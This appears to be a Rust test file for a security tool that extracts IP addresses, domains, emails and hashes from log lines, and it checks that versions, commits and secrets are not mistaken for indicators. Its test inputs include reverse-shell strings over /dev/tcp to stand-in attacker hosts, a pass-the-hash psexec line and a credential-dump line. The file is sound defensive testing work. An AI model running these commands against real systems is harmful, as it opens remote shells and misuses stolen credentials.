//! What stands around a value, or the field that it stands in, decides what it is.

use super::*;

#[test]
fn a_word_of_machines_and_versions_does_not_hide_an_address() {
    const ADDRESS: &str = "ipv4:203.0.113.31";
    check(&[
        ("port", "agent 203.0.113.31:1514 connected", ADDRESS),
        ("port of a number like a version", "Build 12.1.4.2:8080 seen", "ipv4:12.1.4.2"),
        ("port of BIND", "agent 12.1.4.2#53", "ipv4:12.1.4.2"),
        ("prefix", "patch 12.1.4.2/32", "ipv4:12.1.4.2"),
        ("state", "zabbix agent 10.1.2.3 down", "ipv4:10.1.2.3"),
        ("state behind a verb", "Agent 12.1.4.2 is not responding", "ipv4:12.1.4.2"),
        ("up", "agent 12.1.4.2 is up", "ipv4:12.1.4.2"),
        ("up to date", "agent 12.1.4.2 is up to date", ""),
        (
            "shape",
            "relay agent 203.0.113.31, DHCP release 203.0.113.31, kernel 203.0.113.31: martian source, upgrade 203.0.113.31 failed",
            ADDRESS,
        ),
        ("shape of three digits", "driver 5.188.206.114", "ipv4:5.188.206.114"),
        ("shape behind another", "agent from 203.0.113.31", ADDRESS),
        ("shape of a version", "agent 7.50.1.2, Build 22.10.3.12, kernel 5.14.0.70, Edge 120.0.0.0", ""),
        ("inside", "upgraded agent from 10.1.0.2 to 10.1.0.3", ""),
        (
            "sides of a firewall",
            "%ASA-6-106100: access-list acl permitted tcp outside/23.45.67.89(4433) -> inside/12.30.4.5(53)",
            "ipv4:23.45.67.89 ipv4:12.30.4.5",
        ),
        ("a side with a capital", "Outside/198.51.100.7(53)", "ipv4:198.51.100.7"),
        ("a time before an arrow", "1764540000000 -> 8.8.8.8", "ipv4:8.8.8.8"),
        ("words of versions alone", "firmware 203.0.113.31, version 203.0.113.31", ""),
        ("field of versions", r#"{"os":"from 203.0.113.31:443 evil"}"#, ADDRESS),
        ("version in it", r#"{"os":"10.1.2.3","kernel":"203.0.113.31"}"#, ""),
        ("word that ends like another", r#"{"conversion":"203.0.113.31"}"#, ADDRESS),
        ("the same in a text", "conversion 203.0.113.31, inversion 203.0.113.31", ADDRESS),
        ("ends in it", r#"{"minVersion":"1.2.3.4","pluginversion":"1.2.3.4","app_version":"1.2.3.4"}"#, ""),
    ]);
}

#[test]
fn a_path_does_not_hide_an_address() {
    const ADDRESS: &str = "ipv4:203.0.113.64";
    check(&[
        ("socket of a shell", "bash -i >& /dev/tcp/203.0.113.64/4444 0>&1", ADDRESS),
        ("like a version", "exec 5<>/dev/udp/12.1.4.2/53", "ipv4:12.1.4.2"),
        ("socket with a name", "cat </dev/tcp/evil.example.com/4444", "domain:evil.example.com"),
        (
            "command line",
            r#"{"process":{"command_line":"bash -c 'bash -i >& /dev/tcp/203.0.113.64/4444 0>&1'"}}"#,
            ADDRESS,
        ),
        (
            "arguments",
            r#"{"process":{"args":["-c","exec 5<>/dev/tcp/evil.example.com/443"]}}"#,
            "domain:evil.example.com",
        ),
        ("other devices", "/dev/disk/evil.example.com/x", ""),
        ("request", "GET /check/203.0.113.64/full HTTP/1.1", ADDRESS),
        ("interface", "/api/203.0.113.64/x", ADDRESS),
        ("one slash", "smb:/203.0.113.64/x", ADDRESS),
        ("directories of versions", "/opt/app/1.2.3.4/bin /opt/chrome/131.0.6.86/chrome /lib/10.2.3.4/x", ""),
    ]);
}

#[test]
fn a_brand_has_capitals_and_code_has_them_elsewhere() {
    check(&[
        (
            "alone",
            "www.FakeBank.de EvilFake.xyz EvilFake.top EvilFake.info PayFake.me",
            "domain:www.fakebank.de domain:evilfake.xyz domain:evilfake.top domain:evilfake.info domain:payfake.me",
        ),
        ("path", "EvilFake.ru/login", "domain:evilfake.ru"),
        ("longer suffix", "EvilFake.co.uk. CDN-7.BadStuff.CO.UK.", "domain:evilfake.co.uk domain:cdn-7.badstuff.co.uk"),
        ("each label", "domain Evil-Bank.Co.Uk seen", "domain:evil-bank.co.uk"),
        ("machine", "Mail.FakeBank.CH ns1.BadStuff.ru.", "domain:mail.fakebank.ch domain:ns1.badstuff.ru"),
        ("key", "host=Srv.FakeBank.CH", "domain:srv.fakebank.ch"),
        ("greeting", "helo=<Srv.Server.FakeBank.RU>", "domain:srv.server.fakebank.ru"),
        ("verb", "lookup of Panel7.BadStuff.RU failed", "domain:panel7.badstuff.ru"),
        ("port", "gateKeeper.EvilFake.RU:443", "domain:gatekeeper.evilfake.ru"),
        (
            "mixed query",
            "named: client 203.0.113.16#5 (wWw.FAke-0X20.Net): query: wWw.FAke-0X20.Net IN A +",
            "ipv4:203.0.113.16 domain:www.fake-0x20.net",
        ),
        ("mixed field", r#"{"dns_query":"cDn.FaKe.dE"}"#, "domain:cdn.fake.de"),
        (
            "members",
            "getFoo.de fooBar.info MyList.is Foo.barBaz.in RequestLogger.info OrderItem.id UserService.run",
            "",
        ),
        ("files", "MainWindow.cc MyClass.rs FooBar.pl ReadMe.md AppView.app MyClass.rs:42", ""),
        ("detections", "Adware.FooBar.RU Gen.FooBar.DE", ""),
        ("missing space", "it failed.No more, the endOf.It all", ""),
    ]);
}

#[test]
fn what_looks_like_a_file_is_a_host_where_it_is_proven() {
    const ID: &str = "domain:evil-fake.id";
    check(&[
        (
            "hyphen",
            "seen evil-fake.id, evil-fake.run, evil-fake.name",
            "domain:evil-fake.id domain:evil-fake.run domain:evil-fake.name",
        ),
        ("query", "query: evilfake.id IN A +", "domain:evilfake.id"),
        ("query of unbound", "info: 10.0.0.9 evilfake.py. A IN", "ipv4:10.0.0.9 domain:evilfake.py"),
        ("tunnel", "CONNECT evilfake.run:443 HTTP/1.1", "domain:evilfake.run"),
        (
            "tunnel of a proxy",
            "TCP_TUNNEL/200 39 CONNECT fake-panel.sh:443 - HIER_DIRECT/203.0.113.8",
            "domain:fake-panel.sh ipv4:203.0.113.8",
        ),
        ("header", "Host: fake-panel.sh", "domain:fake-panel.sh"),
        ("cache", "dnsmasq[7]: query[A] fakepanel.sh from 10.0.0.9", "domain:fakepanel.sh ipv4:10.0.0.9"),
        ("cache forwards", "forwarded fakepanel.sh to 10.0.0.9", "domain:fakepanel.sh ipv4:10.0.0.9"),
        ("client", "client 203.0.113.58#53 (x.fake-panel.py): query", "ipv4:203.0.113.58 domain:x.fake-panel.py"),
        ("key", "domain=evil-fake.zip", "domain:evil-fake.zip"),
        ("cell", "1700000000.1\tC1\t10.0.0.5\tevilfake.id\t1", "ipv4:10.0.0.5 domain:evilfake.id"),
        ("cell of a file", "pig\tpig.properties\tx\tenv.sh\t", ""),
        (
            "query in cells",
            "1700000000.1\tC1\t10.0.0.5\t5\t10.0.0.1\t53\tudp\tfakepanel.sh\t1",
            "ipv4:10.0.0.5 ipv4:10.0.0.1 domain:fakepanel.sh",
        ),
        ("request in cells", "1700000000.1\tC1\t10.0.0.5\tGET\tfakepanel.sh\t/x", "ipv4:10.0.0.5 domain:fakepanel.sh"),
        ("scarce", "query: evil-fake.so IN A, domain=evil-fake.so", "domain:evil-fake.so"),
        ("code", "Host: parsedUrl.host, host = h.Name, host := url.Host, KeyStore.store", ""),
        ("port", "evil-fake.sh:443 contacted", "domain:evil-fake.sh"),
        ("number of a line", "install.sh:42: error, main.rs:80: x, MyClass.run:123", ""),
        ("fetched", "curl fake-panel.sh/abc -o x", "domain:fake-panel.sh"),
        ("preposition", "connect to fake-panel.md port 8000", "domain:fake-panel.md"),
        ("scripts of every project", "wget install.sh, host: setup.py, CONNECT install.sh:443", "domain:install.sh"),
        ("files", "install-all.sh my-report.md run-me.py foo-1.zip lib-foo.so", ""),
        ("units and keys", "network-online.target id-key.pub app-1.data bundle-min.map", ""),
        ("members", "data.id, x-request.id, host=self.name, domain=user.id, job.foo, props.name", ""),
        ("unchanged", "evil-fake[.]sh", "domain:evil-fake.sh"),
        ("labels", "www.evilfake.id", "domain:www.evilfake.id"),
    ]);
    check(&[("typed", r#"{"url":{"domain":"evilfake.sh"}}"#, "domain:evilfake.sh"), ("not proven", "evilfake.sh", "")]);
    check(&[("shown", "seen evil-fake.id", ID)]);
}

#[test]
fn a_field_of_addresses_or_of_mail_may_hold_a_host() {
    const HOST: &str = "domain:evil-fake.com";
    check(&[
        ("source", r#"{"src":"evil-fake.com"}"#, HOST),
        ("destination with a port", r#"{"dst":"evil-fake.com:443"}"#, HOST),
        ("client", r#"{"client_ip":"evil-fake.com"}"#, HOST),
        ("CEF", "CEF:0|V|P|1|1|N|1|src=evil-fake.com dst=evil2-fake.com", "domain:evil-fake.com domain:evil2-fake.com"),
        (
            "mail",
            r#"{"to":"a.evil-fake.com","from":"b.evil-fake.com","sender":"c.evil-fake.com"}"#,
            "domain:a.evil-fake.com domain:b.evil-fake.com domain:c.evil-fake.com",
        ),
        ("pairs", "from=a.evil-fake.com to='b.evil-fake.com' a=b", "domain:a.evil-fake.com domain:b.evil-fake.com"),
        (
            "results of checks",
            "smtp.mailfrom=a.evil-fake.com; dmarc=pass action=none header.from=b.evil-fake.com",
            "domain:a.evil-fake.com domain:b.evil-fake.com",
        ),
        (
            "address, port, interface, name",
            "src=10.1.1.5:1000:X0:PC5 dst=203.0.113.21:80:X1:a.evil-fake.com proto=tcp",
            "ipv4:10.1.1.5 ipv4:203.0.113.21 domain:a.evil-fake.com",
        ),
        ("Windows", r#"{"TargetDomainName":"evil-fake.com"}"#, HOST),
        ("Windows with a short name", r#"{"TargetDomainName":"EVIL"}"#, ""),
        ("a mailbox is one", r#"{"from":"Jane <jane@evil-fake.com>"}"#, "email:jane@evil-fake.com"),
        ("persons", r#"{"from":"jane.li","to":"max.ng","sender":"anna.do"}"#, ""),
        ("files", r#"{"src":"main.rs:12","dst":"backup.zip"}"#, ""),
        (
            "services of a cloud",
            r#"{"sourceIPAddress":"cloudtrail.amazonaws.com","src":"ec2-198-51-100-7.compute-1.amazonaws.com"}"#,
            "domain:ec2-198-51-100-7.compute-1.amazonaws.com",
        ),
        ("more than a name", r#"{"src":"see evil-fake.com for more"}"#, ""),
    ]);
}

const MD5: &str = "9e107d9d372bb6826bd81d3542a419d6";
const SHA1: &str = "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12";
const SHA256: &str = "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592";

/// As [`check`]; `MD5`, `SHA1` and `SHA256` in a payload and in what is found stand for such hashes.
fn check_hashes(rows: &[(&str, &str, &str)]) {
    let fill = |text: &str| text.replace("MD5", MD5).replace("SHA1", SHA1).replace("SHA256", SHA256);
    let rows: Vec<_> = rows.iter().map(|&(name, payload, expected)| (name, fill(payload), fill(expected))).collect();
    let rows: Vec<_> =
        rows.iter().map(|(name, payload, expected)| (*name, payload.as_str(), expected.as_str())).collect();
    check(&rows);
}

#[test]
fn containers_are_no_files() {
    check_hashes(&[
        ("log", r#"{"log":{"file":{"path":"/var/lib/docker/containers/SHA256/SHA256-json.log"}}}"#, ""),
        ("log of a pod", r#"{"log.file.path":"/var/log/containers/web-1_default_web-SHA256.log"}"#, ""),
        ("group of processes", "0::/system.slice/docker-SHA256.scope, /docker/SHA256", ""),
        ("runtime", r#"{"x":"containerd://SHA256"}"#, ""),
        ("a file of that name", r"/tmp/SHA256.exe C:\x\SHA256.log", "sha256:SHA256"),
    ]);
}

#[test]
fn identifiers_of_agents_and_cursors_are_no_files() {
    check_hashes(&[
        ("journal", r#"{"__CURSOR":"s=MD5;i=1;b=MD5","MESSAGE":"x"}"#, ""),
        ("sensor", r#"{"AgentIdString":"MD5","customerIDString":"MD5"}"#, ""),
        ("handshake", r#"{"ja3_digest":"MD5","ja4s":"MD5","hassh_client":"MD5"}"#, ""),
        ("certificate", r#"{"certificate_serial":"MD5","tls_serial_number":"MD5"}"#, ""),
        ("build", r#"{"version":"SHA1","app_version":"MD5"}"#, ""),
        ("file", r#"{"md5":"MD5","fileHash":"SHA256"}"#, "md5:MD5 sha256:SHA256"),
    ]);
}

#[test]
fn secrets_are_no_files() {
    check_hashes(&[
        ("header", r#"{"authorization":"Bearer SHA256"}"#, ""),
        ("header in a text", "Authorization: Bearer SHA256, X-Api-Key: MD5", ""),
        ("key", "api_key=MD5&x=1 apikey: MD5 password=MD5", ""),
        (
            "fields",
            r#"{"password_hash":"MD5","x_api_key":"MD5","client_secret":"SHA256","auth_token":"SHA1","userPassword":"MD5"}"#,
            "",
        ),
        ("dump", "Administrator:500:MD5:MD5:::", ""),
        ("pair", "psexec.py -hashes MD5:MD5 x", ""),
        ("list", "MD5: found, md5:MD5", "md5:MD5"),
        ("other keys", "hotkey MD5", "md5:MD5"),
    ]);
}

#[test]
fn commits_are_no_files() {
    check_hashes(&[
        ("log", "commit SHA1", ""),
        ("merge", "Merge commit 'SHA1' into main", ""),
        ("keys", "revision=SHA1 head_sha: SHA1 git_commit=SHA1", ""),
        (
            "fields",
            r#"{"git":{"commit":"SHA1"},"commit":{"sha":"SHA1"},"gitCommit":"SHA1","head_sha":"SHA1","vcs.revision":"SHA1","CommitId":"SHA1"}"#,
            "",
        ),
        ("action", "uses: actions/checkout@SHA1", ""),
        ("reference", "SHA1 refs/heads/main", ""),
        ("nothing is said", "seen SHA1", "sha1:SHA1"),
        ("the hash of a file", r#"{"sha1":"SHA1"}"#, "sha1:SHA1"),
        ("others", "commit SHA256", "sha256:SHA256"),
    ]);
}

#[test]
fn versions_of_packages_are_no_addresses() {
    check(&[
        ("dpkg", "2026-11-30 08:00:00 upgrade libfoo:amd64 1.2.3.4-1 1.2.3.5-1", ""),
        ("revision", "Setting up foo (1.2.3.4-1) ..., foo 1.2.3.4-10ubuntu2, bar 10.2.3.4-2+b1", ""),
        ("archive", "foo_1.2.3.4-1_all.deb foo-1.2.3.4-1.x86_64.rpm", ""),
        ("epoch", "Updated: foo.x86_64 1:1.2.3.4-5.el8, bar 1:1.2.3.4", ""),
        ("pinned", "pkg==1.2.3.4", ""),
        ("of a registry", "npm i lodash@4.17.21 left@1.2.3.4", ""),
        ("image", r#"{"image":"app:1.2.3.4"}"#, ""),
        ("image in a text", "docker run app:1.2.3.4", ""),
        ("image and an address", "image pulled by ip:5.6.7.8", "ipv4:5.6.7.8"),
        ("tag", r#"{"container":{"image":{"tag":["1.2.3.4"]}},"tag":"1.2.3.4"}"#, ""),
        ("arrow", "upgrade 1.2.3.4 -> 1.2.3.5", ""),
        (
            "ranges",
            "8.8.8.8-8.8.8.10 203.0.113.1-9 10.0.0.1-200",
            "ipv4:8.8.8.8 ipv4:8.8.8.10 ipv4:203.0.113.1 ipv4:10.0.0.1",
        ),
        ("filters", "ip.src==8.8.8.8 && host==5.6.7.8", "ipv4:8.8.8.8 ipv4:5.6.7.8"),
        (
            "flows",
            "8.8.8.8 -> 5.6.7.8, agent 203.0.113.5 -> 8.8.4.4",
            "ipv4:8.8.8.8 ipv4:5.6.7.8 ipv4:203.0.113.5 ipv4:8.8.4.4",
        ),
        ("keys", "ip:8.8.8.8 src:5.6.7.8 root@5.6.7.9", "ipv4:8.8.8.8 ipv4:5.6.7.8 ipv4:5.6.7.9"),
    ]);
}

#[test]
fn versions_of_programs_are_no_addresses() {
    check(&[
        ("agent", r#"{"user_agent":{"original":"MyApp 3.2.1.0"},"userAgent":"MyApp 3.2.1.0"}"#, ""),
        ("agent of HTTP", r#"{"http":{"http_user_agent":"Foo 1.2.3.4"}}"#, ""),
        ("address in it", r#"{"user_agent":{"original":"curl from 203.0.113.5"}}"#, "ipv4:203.0.113.5"),
        ("address alone", r#"{"user_agent":{"original":"8.8.8.8"}}"#, "ipv4:8.8.8.8"),
        ("header", "GET / HTTP/1.1\nUser-Agent: x/1.2.3.4\nX-Real-IP: 5.6.7.8", "ipv4:5.6.7.8"),
        ("pair", "x\tuseragent=Mozilla/5.0 1.2.3.4\tclient=5.6.7.8", "ipv4:5.6.7.8"),
        ("pair before", "useragent=Mozilla/5.0 client=5.6.7.8", "ipv4:5.6.7.8"),
        ("tool", "sqlmap/1.7.2.3#dev x/1.2.3.4 agent", ""),
        ("protocols", "tcp/8.8.8.8 host/5.6.7.8 web1/5.6.7.9", "ipv4:8.8.8.8 ipv4:5.6.7.8 ipv4:5.6.7.9"),
        ("sentence", "version is now 8.7.6.5, client version is 8.7.6.5", ""),
        ("systems", ".NET 4.0.3.1 runtime, BIOS 1.14.0.2, PAN-OS 10.1.2.3", ""),
        (
            "states",
            "BIOS 1.14.0.2 offline, FortiOS 203.0.113.5, DOS 5.6.7.8",
            "ipv4:1.14.0.2 ipv4:203.0.113.5 ipv4:5.6.7.8",
        ),
        ("sentence about an address", "resolver is 8.8.8.8, gateway is now 5.6.7.8", "ipv4:8.8.8.8 ipv4:5.6.7.8"),
    ]);
}

#[test]
fn names_of_types_labels_and_packages_are_no_hosts() {
    check(&[
        (
            "type",
            r#"{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","typeUrl":"type.googleapis.com/x"}"#,
            "",
        ),
        ("type in a text", "decoded type.googleapis.com/google.rpc.Status", ""),
        ("labels", r#"{"key":"node.kubernetes.io/not-ready","label":"app.kubernetes.io/name=web"}"#, ""),
        (
            "hosts of these",
            "www.kubernetes.io storage.googleapis.com/x",
            "domain:www.kubernetes.io domain:storage.googleapis.com",
        ),
        (
            "packages",
            "k8s.io/client-go@v0.22.2/x golang.org/x/net/http2.(*Transport).run gopkg.in/yaml.v3 example.com/team/mod@v1.2.3",
            "",
        ),
        ("source", "at example.com/team/mod/main.go:12", ""),
        ("receiver", "example.com/team/mod.(*Server).Run(0x1)", ""),
        (
            "paths of hosts",
            "evil.example.com/a@b evil.example.org/x.go",
            "domain:evil.example.com domain:evil.example.org",
        ),
    ]);
}

#[test]
fn names_of_detections_and_programs_are_no_hosts() {
    check(&[
        ("detections", "PUA.Win.Tool.Net JS.Downloader.BD Troj.Spy.Net", ""),
        ("keys", "virus=JS.Foo.BD malware=\"Foo.BD\"", ""),
        ("fields", r#"{"threat":{"name":"JS.Foo.BD"},"malware":{"name":"Foo.BD"}}"#, ""),
        ("capitals throughout", "WORM.EXAMPLE.COM spy.example.com", "domain:worm.example.com domain:spy.example.com"),
        ("script", "perl exploit.pl, perl -w -T exploit.pl, /usr/bin/perl exploit.pl", ""),
        ("audit", r#"type=EXECVE msg=audit(1.2:3): argc=2 a0="perl" a1="exploit.pl""#, ""),
        (
            "arguments",
            r#"type=EXECVE msg=audit(1.2:3): argc=2 a0="curl" a1="evil.example.com""#,
            "domain:evil.example.com",
        ),
        ("pairs", "process=evil.com file=a.zip exe=evil.com x=y", ""),
        ("in a text", "started process=evil.com exe=\"evil.com\" file=evil.com", ""),
        ("registry", "--image=registry.example.com/x:1", "domain:registry.example.com"),
        ("others", "profile=evil.com see exploit.pl", "domain:evil.com domain:exploit.pl"),
        ("members", "this.props.app user.info data.info self.app", ""),
        ("sites", "evilfake.info my.data-fake.info", "domain:evilfake.info domain:my.data-fake.info"),
    ]);
}
